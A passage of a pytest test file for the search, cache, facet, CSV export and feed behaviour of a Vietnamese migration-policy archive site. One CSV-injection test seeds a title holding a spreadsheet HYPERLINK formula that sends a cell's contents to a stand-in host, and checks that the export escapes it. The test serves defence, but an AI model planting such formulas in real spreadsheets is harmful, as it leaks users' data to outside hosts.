    the facets too: each refused condition links to the same search without it."""
    asked = {"q": "di cư", "kind": "plan", "date_from": "31/02/2020", "sort": "oldest"}
    response = client.get(reverse("archive:search"), asked)
    assert response.status_code == 400
    (link,) = re.findall(r'class="drop-refused" href="([^"]+)"', response.content.decode())
    dropped = QueryDict(html.unescape(link).lstrip("?"))
    assert dropped.dict() == {"q": "di cư", "kind": "plan", "sort": "oldest"}
    assert client.get(reverse("archive:search") + html.unescape(link)).status_code == 200
    # Of a facet's several values, only the one refused goes (a hand-edited address).
    typo = {"q": "di cư", "province": ["can-tho", "can-thoo"], "kind": ["plan", "planx"]}
    page = client.get(reverse("archive:search"), typo).content.decode()
    links = re.findall(r'class="drop-refused" href="([^"]+)"', page)
    kept = [dict(QueryDict(html.unescape(link).lstrip("?")).lists()) for link in links]
    assert {"q": ["di cư"], "province": ["can-tho"], "kind": ["plan", "planx"]} in kept
    assert {"q": ["di cư"], "province": ["can-tho", "can-thoo"], "kind": ["plan"]} in kept
    # A period ending before it starts: the end is dropped, the start kept.
    reversed_period = asked | {"date_from": "2025", "date_to": "2020"}
    page = client.get(reverse("archive:search"), reversed_period).content.decode()
    (link,) = re.findall(r'class="drop-refused" href="([^"]+)"', page)
    assert QueryDict(html.unescape(link).lstrip("?")).dict() == asked | {"date_from": "2025"}


def test_a_page_beyond_the_last_shows_the_last_page_and_says_so(client, corpus):
    response = client.get(reverse("archive:search"), {"page": "99"})
    assert response.status_code == 200
    assert response.context["page"].number == 1
    assert "Không có trang 99: đây là trang cuối, trang 1." in response.content.decode()
    for page in ("+5", "٣"):  # read as the page is chosen (int()), which shows the last
        content = client.get(reverse("archive:search"), {"page": page}).content.decode()
        assert "đây là trang cuối, trang 1." in content, page
    for page in ("1", "abc"):  # the page asked for, or none readable: nothing to say
        content = client.get(reverse("archive:search"), {"page": page}).content.decode()
        assert "Không có trang" not in content


def test_a_query_of_punctuation_alone_says_it_has_nothing_to_search(client, corpus):
    """It was told to take away conditions it did not have, and offered a feed of it."""
    for q in ("??? …", "___"):
        content = client.get(reverse("archive:search"), {"q": q, "kind": "plan"}).content
        content = content.decode()
        assert "Câu tìm kiếm không có chữ hay số nào để tìm." in content, q
        assert '<a href="?kind=plan">Bỏ câu tìm kiếm</a>' in content
        assert "Hãy thử bỏ bớt một điều kiện" not in content
        assert "Theo dõi tài liệu mới" not in content and "application/atom+xml" not in content
    content = client.get(reverse("archive:search"), {"q": "xyzzy"}).content.decode()
    assert "Không tìm thấy tài liệu nào chứa «xyzzy»." in content
    assert "không có chữ hay số" not in content


def test_words_found_nowhere_are_told_what_to_type_not_to_take_away_filters(client, corpus):
    """With no filter chosen, «bỏ bớt một điều kiện ở trên» pointed at none; English words
    («Decision 402») found nothing with nothing to say the texts are Vietnamese."""
    content = client.get(reverse("archive:search"), {"q": "Decision 402"}).content.decode()
    assert "Không tìm thấy tài liệu nào chứa «Decision 402»." in content
    assert "Tài liệu trong lưu trữ viết bằng tiếng Việt" in content
    assert "bỏ bớt một điều kiện" not in content
    narrowed = {"q": "xyzzy", "year": "2020"}
    content = client.get(reverse("archive:search"), narrowed).content.decode()
    assert "Hãy thử bỏ bớt một điều kiện ở trên" in content
    assert "Tài liệu trong lưu trữ viết bằng tiếng Việt" not in content


# The search page -----------------------------------------------------------------------------


# A repeated search: the chosen province, the generation, the cache row, and the page's documents
# (their places, agencies and issuer named from the reference tables, read once per generation,
# archive/reference.py); the snippets of the first 20 results are cached with the counts, those
# of a longer page cost one more query. The first time adds the counting, ranking and snippets
# (in a savepoint with the search settings and a lock on the key, which re-reads the cache and
# looks for a snapshot), the cache write, and the four reference tables. What is rendered (the
# page's results, the API's JSON) is cached too (views.rendered): one more read, and a write
# the first time; asked again, the chosen province, the generation and that one row.
MISS_QUERIES, HIT_QUERIES, RENDERED_QUERIES = 28, 4, 3
CACHE_READ, CACHE_WRITE = 1, 5  # DatabaseCache.set counts, then writes in a savepoint


def test_search_page_runs_a_bounded_number_of_queries(client, corpus, django_assert_num_queries):
    for n in range(30):
        ArticleFactory(
            title=f"Tin di cư số {n}", body="di cư", provinces=[corpus["di_cu"].provinces.first()]
        )
    params = {"q": "di cư", "province": "nghe-an", "kind": "article"}
    # The first time: count, facets and ranking, then the results and the page are cached.
    with django_assert_num_queries(MISS_QUERIES):
        response = client.get(reverse("archive:search"), params)
    assert len(response.context["page"].object_list) == 20
    with django_assert_num_queries(RENDERED_QUERIES):
        again = client.get(reverse("archive:search"), params)
    assert again.context["results_html"] == response.context["results_html"]
    # The API in any page size: from the cached counts, the same number of statements.
    for size, shown, more in [("5", 5, 0), ("20", 20, 0), ("100", 31, 1)]:
        with django_assert_num_queries(HIT_QUERIES + more + CACHE_READ + CACHE_WRITE):
            response = client.get(reverse("archive:api-search"), params | {"page_size": size})
        assert len(response.json()["results"]) == shown
        with django_assert_num_queries(RENDERED_QUERIES):
            again = client.get(reverse("archive:api-search"), params | {"page_size": size})
        assert again.json() == response.json()


def test_a_cached_search_sees_every_edit_at_once(client, corpus):
    params = {"q": "di cư"}
    before = client.get(reverse("archive:api-search"), params).json()
    assert client.get(reverse("archive:api-search"), params).json() == before  # cached

    article = ArticleFactory(title="Di cư an toàn", body="di cư", provinces=[])
    after = client.get(reverse("archive:api-search"), params).json()
    assert after["count"] == before["count"] + 1
    assert article.pk in [result["id"] for result in after["results"]]

    article.status = Document.Status.DRAFT
    article.save()
    assert client.get(reverse("archive:api-search"), params).json() == before

    province = corpus["di_cu"].provinces.first()
    article.status = Document.Status.PUBLISHED
    article.save()
    in_province = params | {"province": province.slug}
    tagged_before = client.get(reverse("archive:api-search"), in_province).json()["count"]
    article.provinces.add(province)  # a join-table row: the trigger rewrites the facet arrays
    tagged_after = client.get(reverse("archive:api-search"), in_province).json()["count"]
    assert tagged_after == tagged_before + 1


def test_a_cached_page_names_places_and_agencies_as_they_are_now(client, corpus):
    """A result's places and agencies are named from the reference tables held per generation
    (archive/reference.py): renaming one is seen at the next request."""
    conference = ConferenceFactory(title="Hội nghị di cư mới", place="Hà Nội", provinces=[])
    province, agency = corpus["di_cu"].provinces.first(), AgencyFactory(name="Sở Ngoại vụ cũ")
    conference.provinces.add(province)
    conference.agencies.add(agency)
    params = {"q": "Hội nghị di cư mới"}

    def shown():
        result = client.get(reverse("archive:api-search"), params).json()["results"][0]
        page = client.get(reverse("archive:search"), params).content.decode()
        return result["provinces"], result["agencies"], page

    assert shown()[:2] == ([province.name], ["Sở Ngoại vụ cũ"])
    # One table at a time (save() on a conference would write the document row too).
    Agency.objects.filter(pk=agency.pk).update(name="Sở Ngoại vụ mới")
    assert shown()[:2] == ([province.name], ["Sở Ngoại vụ mới"])
    Province.objects.filter(pk=province.pk).update(name="Tên mới")
    assert shown()[:2] == (["Tên mới"], ["Sở Ngoại vụ mới"])
    Conference.objects.filter(pk=conference.pk).update(place="Cần Thơ")
    page = shown()[2]
    assert "Cần Thơ" in page and "Hà Nội" not in page


def committed_generation():
    """Return the generation as another session sees it (a connection of its own)."""
    with psycopg.connect(**connection.get_connection_params()) as other:
        return other.execute("SELECT value FROM archive_search_generation").fetchone()[0]


@pytest.mark.django_db(transaction=True)
def test_the_generation_moves_once_per_transaction_when_it_commits():
    start = committed_generation()
    with transaction.atomic():
        before_writing = search_generation()
        article = ArticleFactory(title="Di cư an toàn", body="di cư", provinces=[])
        first_write = search_generation()
        article.title = "Di cư an toàn, trật tự"
        article.save()
        # Each write is seen at once by the writer, under a key nobody else has...
        assert len({before_writing, first_write, search_generation()}) == 3
        assert first_write.startswith(f"{start}.")
        # ...while other sessions keep the committed state and its cache entries.
        assert committed_generation() == start
    assert committed_generation() == start + 1
    assert search_generation() == str(start + 1)
    with pytest.raises(RuntimeError), transaction.atomic():
        ArticleFactory(title="Bỏ dở", body="di cư", provinces=[])
        raise RuntimeError
    assert committed_generation() == start + 1  # nothing committed, nothing moved


def test_the_rendered_results_follow_the_language_and_every_edit(client, corpus):
    """The results part of the page is cached per language and generation (views.results_html)."""
    params = {"q": "di cư"}

    def results():
        return client.get(reverse("archive:search"), params).context["results_html"]

    vietnamese = results()
    assert "Lọc kết quả" in vietnamese and results() == vietnamese
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    english = results()
    assert "Filter results" in english and "Lọc kết quả" not in english
    del client.cookies[settings.LANGUAGE_COOKIE_NAME]
    assert results() == vietnamese
    retitled = corpus["di_cu"]
    retitled.title = "Di cư an toàn: tiêu đề mới"
    retitled.save()
    assert "tiêu đề mới" in results()


def test_facet_labels_follow_the_language_of_each_request(client, corpus):
    """The labels are built once per process and language (reference.References.choices)."""

    def labels():
        payload = api(client, q="Hậu Giang")[1]["facets"]
        return {
            item["value"]: item["label"]
            for name in ("province", "objective", "doc_type")
            for item in payload[name]
        }

    vietnamese = labels()
    assert vietnamese["hau-giang-truoc-2025"] == "Hậu Giang (trước 2025)"
    assert vietnamese["10"] == "10. Phòng, chống mua bán người"
    assert vietnamese["ke-hoach"] == "Kế hoạch"
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    english = labels()
    assert english["hau-giang-truoc-2025"] == "Hậu Giang (before 2025)"
    assert english["10"] == "10. Trafficking"
    assert english["ke-hoach"] == "Plan"  # a common noun, unlike a name
    del client.cookies[settings.LANGUAGE_COOKIE_NAME]
    assert labels() == vietnamese


def test_a_deploy_never_serves_what_the_previous_code_rendered(client, corpus, monkeypatch):
    renders = []
    render_to_string = views.render_to_string
    monkeypatch.setattr(
        views,
        "render_to_string",
        lambda *args, **kw: renders.append(1) or render_to_string(*args, **kw),
    )
    for _ in range(2):
        client.get(reverse("archive:search"), {"q": "di cư"})
    assert len(renders) == 1  # rendered once, then from the cache
    monkeypatch.setattr(views, "code_version", lambda: "next-deploy")
    client.get(reverse("archive:search"), {"q": "di cư"})
    assert len(renders) == 2


def test_the_code_version_follows_the_templates(tmp_path, monkeypatch):
    template = tmp_path / "templates" / "archive" / "page.html"
    template.parent.mkdir(parents=True)
    template.write_text("<p>một</p>")
    monkeypatch.setattr(settings, "BASE_DIR", tmp_path)
    views.code_version.cache_clear()
    before = views.code_version()
    template.write_text("<p>hai</p>")
    views.code_version.cache_clear()
    assert views.code_version() != before
    views.code_version.cache_clear()


def test_staff_and_readers_never_share_a_cached_page(staff_client, corpus):
    client = Client()  # a reader's own browser (staff_client is the `client` fixture, logged in)
    ArticleFactory(title="Bản nháp di cư", body="di cư", status=Document.Status.DRAFT)
    params = {"q": "bản nháp"}
    staff_count = staff_client.get(reverse("archive:api-search"), params).json()["count"]
    reader_count = client.get(reverse("archive:api-search"), params).json()["count"]
    assert (
        staff_count
        == reader_count
        + Document.objects.exclude(status=Document.Status.PUBLISHED).search("bản nháp").count()
    )
    assert reader_count == Document.objects.published().search("bản nháp").count()
    assert staff_client.get(reverse("archive:api-search"), params).json()["count"] == staff_count


def test_a_search_with_nothing_to_filter_draws_no_empty_facet_box(client, corpus):
    nothing = client.get(reverse("archive:search"), {"q": "xyzzyqq"}).content.decode()
    assert "Không tìm thấy tài liệu nào" in nothing and 'class="facets"' not in nothing
    # A chosen value stays shown, so it can be undone, even with nothing found.
    chosen = client.get(reverse("archive:search"), {"q": "xyzzyqq", "kind": "plan"})
    assert 'class="facets"' in chosen.content.decode()


def test_no_results_says_so_offers_close_titles_and_a_way_out(client, corpus):
    response = client.get(
        reverse("archive:search"),
        {"q": "Ke hoach trien khai Thoa thuan Hau Giangg", "kind": "conference"},
    )
    content = response.content.decode()
    assert "Không tìm thấy tài liệu nào" in content
    assert [doc.slug for doc in response.context["suggestions"]][0] == "kh-1614"
    assert (
        "?q=Ke+hoach+trien+khai+Thoa+thuan+Hau+Giangg" in content
    )  # the link removing kind=conference


def test_facet_links_keep_the_state_and_reset_the_page(client, corpus):
    response = client.get(reverse("archive:search"), {"q": "di cư", "kind": "article", "page": "1"})
    content = response.content.decode()
    assert 'href="?q=di+c%C6%B0&amp;kind=article&amp;kind=plan"' in content
    assert 'href="?q=di+c%C6%B0"' in content  # unselect "article"


def test_the_order_menu_leaves_a_typed_query_ranked(client, corpus):
    """Browsing lists the newest first by default; the menu's first entry («Mới nhất» there)
    sends no order, so words typed next on that page are ranked, not sorted by date. It was
    «Mặc định», beside a «Liên quan nhất» that gave the same order."""
    browse = client.get(reverse("archive:search"))
    dates = [doc.date for doc in browse.context["page"].object_list]
    assert dates == sorted(dates, reverse=True)
    menu = re.search(r'<select name="sort">(.*?)</select>', browse.content.decode())[1]
    assert menu == (
        '<option value="" selected>Mới nhất</option><option value="oldest">Cũ nhất</option>'
    )
    typed = client.get(reverse("archive:search"), {"q": "di cư"}).content.decode()
    assert re.search(r'<select name="sort">(.*?)</select>', typed)[1] == (
        '<option value="" selected>Liên quan nhất</option><option value="newest">Mới nhất</option>'
        '<option value="oldest">Cũ nhất</option>'
    )
    chosen = client.get(reverse("archive:search"), {"q": "di cư", "sort": "newest"})
    assert '<option value="newest" selected>' in chosen.content.decode()


def test_an_order_asked_for_is_shown_among_the_conditions(client, corpus):
    """The menu folds again after a search: nothing on the page said the list was oldest
    first."""
    asked = {"q": "di cư", "kind": "plan", "sort": "oldest"}
    content = client.get(reverse("archive:search"), asked).content.decode()
    chip = re.search(r'<li><a href="([^"]+)" title="Bỏ điều kiện này">Sắp xếp: Cũ nhất', content)
    assert QueryDict(html.unescape(chip[1]).lstrip("?")).dict() == {"q": "di cư", "kind": "plan"}
    assert '<details class="more-options" open>' in content
    # The search's own order is no condition: none shown.
    for own in ({"q": "di cư", "sort": "relevance"}, {"sort": "newest"}, {"sort": "relevance"}):
        content = client.get(reverse("archive:search"), own).content.decode()
        assert "Sắp xếp: " not in content, own


def test_the_merged_units_switch_shows_for_a_unit_that_took_in_others_and_can_be_undone(
    client, corpus
):
    switch = "Chỉ đúng đơn vị đã chọn (không gồm các đơn vị đã sáp nhập)"
    # Cần Thơ took in Hậu Giang: the switch narrows it. Chosen beside Nghệ An, which counts
    # less, it still shows (it showed only when the chosen unit came first).
    for chosen in (["can-tho"], ["nghe-an", "can-tho"]):
        content = client.get(reverse("archive:search"), {"province": chosen}).content.decode()
        assert switch in content, chosen
    # Nghệ An took in no other unit: the switch would change nothing, and is not offered.
    alone = client.get(reverse("archive:search"), {"province": "nghe-an"}).content.decode()
    assert switch not in alone
    exact = client.get(
        reverse("archive:search"), {"province": "nghe-an", "exact_province": "on"}
    ).content.decode()
    # Switched on, it is listed with the conditions in force, a link that takes it off.
    assert 'href="?province=nghe-an" title="Bỏ điều kiện này">Chỉ đúng đơn vị đã chọn' in exact
    assert "Gồm cả các đơn vị đã sáp nhập" in exact
    # With no province chosen (the last one taken off) it does nothing, so it is not listed.
    alone = client.get(reverse("archive:search"), {"exact_province": "on"}).content.decode()
    assert "Chỉ đúng đơn vị đã chọn" not in alone and 'name="exact_province"' not in alone


def test_an_old_unit_that_only_changed_era_is_listed_once(client, corpus):
    """Lạng Sơn before 2025 is Lạng Sơn now: its documents count under today's unit, and the
    facet listed the province twice with one count."""
    lang_son = ProvinceFactory(era="34", code="20", name="Lạng Sơn", slug="lang-son")
    old = ProvinceFactory(
        era="63", code="20", name="Lạng Sơn", slug="lang-son-truoc-2025", merged_into=lang_son
    )
    ArticleFactory(slug="lang-son-bai", title="Di cư ở Lạng Sơn", provinces=[old])
    facets = client.get(reverse("archive:search"), {"q": "Lạng Sơn"}).context["facets"]
    provinces = next(group for group in facets if group["name"] == "province")
    assert [(v["value"], v["count"]) for v in provinces["values"]] == [("lang-son", 1)]
    # Hậu Giang before 2025 merged into Cần Thơ with others: both stay listed.
    facets = client.get(reverse("archive:search"), {"q": "Hậu Giang"}).context["facets"]
    provinces = next(group for group in facets if group["name"] == "province")
    assert {v["value"] for v in provinces["values"]} == {"can-tho", "hau-giang-truoc-2025"}
    # Counting the tagged units alone, the old unit is where its document counts: listed.
    exact = client.get(
        reverse("archive:search"), {"q": "Lạng Sơn", "province": "lang-son", "exact_province": "on"}
    )
    provinces = next(g for g in exact.context["facets"] if g["name"] == "province")
    assert [(v["value"], v["count"]) for v in provinces["values"]] == [
        ("lang-son-truoc-2025", 1),
        ("lang-son", 0),  # chosen
    ]
    # Chosen by a link from before, it is shown, so it can be taken off.
    chosen = client.get(reverse("archive:search"), {"province": "lang-son-truoc-2025"})
    provinces = next(group for group in chosen.context["facets"] if group["name"] == "province")
    assert ("lang-son-truoc-2025", 1, True) in [
        (v["value"], v["count"], v["selected"]) for v in provinces["values"]
    ]


def test_a_facet_of_many_values_folds_the_rest_away(client, corpus, monkeypatch):
    monkeypatch.setattr(filters, "FACET_LIMIT", 2)
    monkeypatch.setattr(filters, "FACET_MORE", 1)
    filterset = DocumentFilter({}, queryset=Document.objects.published())
    assert filterset.is_valid()
    groups = {group["name"]: group for group in filters.facet_groups(filterset)}
    # Five units have documents (Cần Thơ, 2, with the Hậu Giang plan merged into it; the others
    # 1 each): two shown, the biggest first, one folded, two counted as left out. Ties are cut
    # in the order they are listed, a dictionary's: Hậu Giang, Hoà Bình, Nghệ An, Phú Thọ.
    province = groups["province"]
    assert [item["value"] for item in province["values"]] == ["can-tho", "hau-giang-truoc-2025"]
    assert [item["value"] for item in province["more"]] == ["hoa-binh-truoc-2025"]
    assert province["hidden"] == 2
    assert len(groups["kind"]["values"]) == 3 and not groups["kind"]["more"]  # kinds: whole
    content = client.get(reverse("archive:search")).content.decode()
    assert "Xem thêm 1 giá trị" in content and "Còn 2 giá trị ít gặp hơn" in content
    # A folded value chosen comes up among those shown.
    folded = province["more"][0]["value"]
    chosen = DocumentFilter({"province": [folded]}, queryset=Document.objects.published())
    assert chosen.is_valid()
    shown = {group["name"]: group for group in filters.facet_groups(chosen)}["province"]["values"]
    assert folded in [item["value"] for item in shown if item["selected"]]


def test_a_facet_value_is_a_link_that_switches_it_escaped_and_shortened(client, corpus):
    """The facet lists are written in Python (archive_tags.facet_values): what the template
    engine did for them, escaping, the long names cut and the counts, is theirs to do."""
    agency = AgencyFactory(
        name="Ban <Chỉ đạo> về di cư & hội nhập quốc tế của các tỉnh miền Tây Nam Bộ",
        slug="ban-chi-dao",
    )
    corpus["di_cu"].agencies.add(agency)
    content = client.get(reverse("archive:search"), {"q": "di cư", "year": "2024"}).content
    content = content.decode()
    assert (
        '<a class="facet-value" href="?q=di+c%C6%B0&amp;year=2024&amp;agency=ban-chi-dao"'
        ' rel="nofollow"><span class="box" aria-hidden="true"></span>'
        ' <span class="facet-label" title="Ban &lt;Chỉ đạo&gt; về di cư &amp; hội nhập quốc tế'
        ' của các tỉnh miền Tây Nam Bộ">Ban &lt;Chỉ đạo&gt; về di cư &amp; hội nhập …</span>'
        ' <span class="count">1</span></a>'
    ) in content
    # A chosen value is marked, said so in words to a screen reader, and its link takes it off.
    chosen = re.search('<a class="facet-value selected" href="[?]q=di[+]c%C6%B0".*?</a>', content)
    assert chosen[0].startswith(
        '<a class="facet-value selected" href="?q=di+c%C6%B0" rel="nofollow">'
        '<span class="box" aria-hidden="true">✓</span>'
    )
    assert chosen[0].endswith('<span class="visually-hidden"> (đã chọn)</span></a>')
    assert content.count("(đã chọn)") == 1


def test_a_phone_can_jump_to_the_filters_that_follow_the_results(client, corpus):
    content = client.get(reverse("archive:search"), {"q": "di cư"}).content.decode()
    assert '<aside class="facets" id="facets"' in content and 'href="#facets"' in content


def test_a_results_agencies_are_told_apart_and_all_reachable(client, corpus):
    """Every province's committee is "UBND": its tag names the province. Past four tags, the
    count leads to the document, which lists them all."""
    ubnd = Agency.objects.get(slug="ubnd-hau-giang")
    ubnd.province = Province.objects.get(slug="hau-giang-truoc-2025")
    ubnd.save()
    many = ArticleFactory(
        title="Bài về sáu cơ quan",
        agencies=[AgencyFactory(name=f"Cơ quan {n}", slug=f"co-quan-{n}") for n in range(6)],
    )
    content = client.get(reverse("archive:search"), {"q": "1614"}).content.decode()
    assert 'title="UBND tỉnh Hậu Giang">UBND Hậu Giang</a>' in content
    content = client.get(reverse("archive:search"), {"q": "sáu cơ quan"}).content.decode()
    assert f'<a class="tag tag-agency" href="{many.get_absolute_url()}"' in content
    assert ">+2</a>" in content


def test_a_year_typed_offers_the_years_documents(client, db):
    """ "2018" or "kế hoạch 2020" found the texts holding the word, not the year's documents:
    the page offers the year filter in its place."""
    PlanFactory(slug="kh-2020", title="Kế hoạch về di cư", body="Nội dung.", date=D(2020, 5, 1))
    ArticleFactory(slug="tin-2020", title="Tin", body="Kế hoạch năm 2020.", date=D(2024, 1, 1))
    page = client.get(reverse("archive:search"), {"q": "kế hoạch 2020", "page": "1"})
    hint = re.search(r'class="muted year-hint">(.*?)</p>', page.content.decode(), re.S)
    assert hint and "«2020» được tìm như một từ" in hint[1]
    address = html.unescape(re.search(r'href="([^"]+)"', hint[1])[1])
    assert "year=2020" in address and "page=" not in address
    offered = client.get(address)
    assert [d.slug for d in offered.context["page"].object_list] == ["kh-2020"]
    assert b"year-hint" not in offered.content  # the year chosen: no offer
    assert b"year-hint" not in client.get(reverse("archive:search"), {"q": "di cư 402"}).content
    # A year inside a number is the number's.
    assert b"year-hint" not in client.get(reverse("archive:search"), {"q": "30 2020 NĐ CP"}).content


def test_place_and_agency_offers_read_names_as_the_search_does(client, corpus):
    """Found by a review: a name abroad holding a province's, a name with a hyphen, a name
    inside quotes, an issuer inside a number, nine names typed in the suggestion box (a 500)."""
    places = filters.DocumentFilter({"q": "x"}, queryset=Document.objects.all()).references.places
    ProvinceFactory(era="34", code="77", name="Bà Rịa - Vũng Tàu", slug="brvt")
    ProvinceFactory(era="34", code="34", name="Thái Bình", slug="thai-binh")
    places = search.place_table(Province.objects.all(), not_places=["Thái Bình Dương"])
    assert search._places_excluded("di cư -Bà Rịa - Vũng Tàu", places) == (
        'di cư -"Bà Rịa - Vũng Tàu"'
    )
    assert search._places_excluded("-Thái Bình Dương x", places) == "-Thái Bình Dương x"
    assert search._places_excluded('"di cư -Hậu Giang" x', places) == '"di cư -Hậu Giang" x'
    assert search._places_excluded('"a" -Hậu Giang', places) == '"a" -"Hậu Giang"'
    page = client.get(reverse("archive:search"), {"q": "di cư Bà Rịa - Vũng Tàu"}).content
    hint = re.search(r'class="muted place-hint">.*?href="([^"]+)"', page.decode(), re.S)
    assert html.unescape(hint[1]) == "/tim-kiem/?q=di+c%C6%B0&province=brvt"
    AgencyFactory(name="Bộ Ngoại giao", abbreviation="BNG", slug="bng")
    content = client.get(reverse("archive:search"), {"q": "5165 TTr BNG LS"}).content
    assert b"agency-hint" not in content  # the number's issuer, not the agency asked for
    assert b"agency-hint" in client.get(reverse("archive:search"), {"q": "BNG di cư"}).content
    many = client.get(reverse("archive:api-suggest"), {"q": "Hậu Giang Cần Thơ " * 5})
    assert many.status_code == 200
    titles = [s["title"] for s in many.json()["suggestions"]]
    assert titles[:2] == ["Hậu Giang (trước 2025)", "Cần Thơ"] and len(titles) <= 8
    # An excluded word before OR leaves no stray OR to mark.
    assert search._headline_text(parse_query("-Hậu OR thoả thuận")) == "thoả thuận"


def test_a_province_typed_offers_its_documents_and_its_page(client, corpus):
    """ "Khánh Hoà" or "Sóc Trăng" found nothing, then offered five unrelated titles: a name
    typed finds the texts naming it; its filter and page hold every document tagged with it."""

    def hints(q, **params):
        page = client.get(reverse("archive:search"), {"q": q, **params}).content.decode()
        found = re.findall(r'class="muted place-hint">(.*?)</p>', page, re.S)
        return page, [html.unescape(" ".join(re.findall(r'href="([^"]+)"', f))) for f in found]

    page, offered = hints("Hoà Bình")  # a unit before 2025 only, and what it is part of now
    assert offered == [
        "/tim-kiem/?q=&province=hoa-binh-truoc-2025 /tinh-thanh/hoa-binh-truoc-2025/"
        " /tim-kiem/?q=&province=phu-tho"
    ]
    assert "«Hoà Bình» là tên một tỉnh, thành phố" in page
    assert "nay thuộc Phú Thọ: <a" in page
    # Chosen already, what it is part of today is not offered again.
    assert hints("Hoà Bình", province="phu-tho")[1] == [
        "/tim-kiem/?q=&province=hoa-binh-truoc-2025 /tinh-thanh/hoa-binh-truoc-2025/"
    ]
    page, offered = hints("thoả thuận Cần Thơ", page="2")  # today's unit, other words kept
    assert offered == [
        "/tim-kiem/?q=tho%E1%BA%A3+thu%E1%BA%ADn&province=can-tho /tinh-thanh/can-tho/"
    ]
    filtered = client.get(offered[0].split()[0])
    assert [d.slug for d in filtered.context["page"].object_list] == ["kh-1614"]
    assert hints("thoả thuận", province="can-tho")[1] == []
    assert hints("thoả thuận Cần Thơ", province="can-tho")[1] == []  # chosen already
    # A name alone that found nothing: its offer, not titles like it ("Khánh Hội").
    ProvinceFactory(era="34", code="56", name="Khánh Hòa", slug="khanh-hoa")
    ArticleFactory(slug="khanh-hoi", title="Khánh Hội", body="Tin.")
    page, offered = hints("Khánh Hoà")
    assert len(offered) == 1 and "Có phải bạn tìm" not in page
    assert "Có phải bạn tìm" in hints("Khánh Hoà tin")[0]


def test_an_agencys_abbreviation_typed_offers_its_documents(client, corpus):
    """ "IOM" found 4 documents writing it, its filter 5: the page offers the filter."""
    iom = AgencyFactory(name="Tổ chức Di cư quốc tế", abbreviation="IOM", slug="iom")
    ArticleFactory(slug="iom-viet", title="IOM hỗ trợ", body="IOM và Bộ Ngoại giao.")
    ArticleFactory(slug="iom-gan", title="Hội thảo", body="Tổ chức quốc tế.", agencies=[iom])

    def hints(q, **params):
        page = client.get(reverse("archive:search"), {"q": q, **params}).content.decode()
        found = re.findall(r'class="muted agency-hint">(.*?)</p>', page, re.S)
        return [html.unescape(" ".join(re.findall(r'href="([^"]+)"', f))) for f in found]

    assert hints("IOM hỗ trợ") == [f"/tim-kiem/?q=h%E1%BB%97+tr%E1%BB%A3&agency=iom {iom_page()}"]
    assert hints("IOM") == [f"/tim-kiem/?q=&agency=iom {iom_page()}"]
    offered = client.get(hints("IOM")[0].split()[0]).context["page"].object_list
    assert {d.slug for d in offered} == {"iom-gan"}  # tagged, its text silent
    assert hints("IOM", agency="iom") == []  # chosen already
    assert hints("iom") == []  # typed otherwise: a word
    AgencyFactory(name="UBND tỉnh Nghệ An", abbreviation="UBND", slug="ubnd-nghe-an")
    assert hints("UBND") == []  # every province's committee's: names none


def iom_page():
    return reverse("archive:agency", args=["iom"])


# CSV export and suggestions ------------------------------------------------------------------


def test_csv_export_streams_all_matches_with_a_bom(client, corpus):
    response = client.get(reverse("archive:search-csv"), {"q": "người", "sort": "newest"})
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith('\ufeffLoại tài liệu,Loại văn bản,"Số, ký hiệu",')
    lines = body.strip().splitlines()
    assert len(lines) == 1 + len(slugs(client, q="người", page_size=100))
    assert "Người di cư trở về quê" in body
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_csv_export_in_english_is_english_throughout(client, corpus):
    """The header was translated once, at import, in the site's language."""
    client.post(reverse("set_language"), {"language": "en", "next": "/"})
    response = client.get(reverse("archive:search-csv"), {"q": "người di cư"})
    translation.activate("vi")  # the thread's language by the time a server streams the rows
    lines = b"".join(response.streaming_content).decode("utf-8").splitlines()
    header = (
        "Kind,Document type,Document number,Title,Date,Date (year-month-day),Provinces and cities,"
        "Agencies and organisations,URL,Status"
    )
    assert lines[0] == "\ufeff" + header
    assert lines[1].startswith("Article,,,Người di cư trở về quê,01/05/2024,2024-05-01,")
    assert any(line.startswith("Official document,Plan,1614/KH-UBND,") for line in lines)
    day = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="migration-policy-archive-search-{day}.csv"'
    )


def test_staffs_exports_say_which_documents_are_drafts(staff_client, corpus):
    """The page marks a draft «Bản nháp»; a forwarded export passed it off as published."""
    response = staff_client.get(reverse("archive:search-csv"), {"q": "di cư", "sort": "newest"})
    lines = b"".join(response.streaming_content).decode("utf-8").splitlines()
    assert lines[0].endswith(",Địa chỉ,Trạng thái")
    assert lines[1].startswith("Bài viết,,,Bản nháp về di cư,") and lines[1].endswith(",Bản nháp")
    assert lines[2].endswith(",Đã công bố")
    _status, payload = api(staff_client, q="di cư", sort="newest")
    assert [r["status"] for r in payload["results"][:2]] == ["draft", "published"]
    assert entry_titles(feed(staff_client, q="bản nháp"))[0] == "[Bản nháp] Bản nháp về di cư"


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(client, corpus):
    """A title imported from a web page, opened in Excel, ran as a formula (CSV injection)."""
    ArticleFactory(title='=HYPERLINK("http://x.example/?"&A1,"Xem") di cư', slug="formula")
    ArticleFactory(title="-Tin di cư", slug="minus")
    response = client.get(reverse("archive:search-csv"), {"q": "di cư"})
    body = b"".join(response.streaming_content).decode("utf-8")
    assert ',"\'=HYPERLINK(""http://x.example/?""&A1,""Xem"") di cư",' in body
    assert ",'-Tin di cư," in body
    assert ",Người di cư trở về quê," in body  # the rest as they are


def test_csv_export_is_dated_and_names_a_bad_parameter_as_the_page_does(client, corpus):
    response = client.get(reverse("archive:search-csv"), {"q": "người"})
    day = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="tim-kiem-luu-tru-di-cu-{day}.csv"'
    )
    refused = client.get(reverse("archive:search-csv"), {"sort": "bogus"})
    assert refused.status_code == 400
    assert refused.content.decode().startswith("Sắp xếp: ")


# Feeds ---------------------------------------------------------------------------------------

ATOM = "{http://www.w3.org/2005/Atom}"


def feed(client, **params):
    response = client.get(reverse("archive:search-feed"), params)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/atom+xml")
    return ElementTree.fromstring(response.content)


def entry_titles(root):
    return [entry.find(f"{ATOM}title").text for entry in root.iter(f"{ATOM}entry")]


@pytest.mark.parametrize("few", [feeds.FEW, 1])  # matches read whole, or the index walked
def test_a_search_feed_lists_what_entered_the_archive_newest_first(
    client, corpus, few, monkeypatch
):
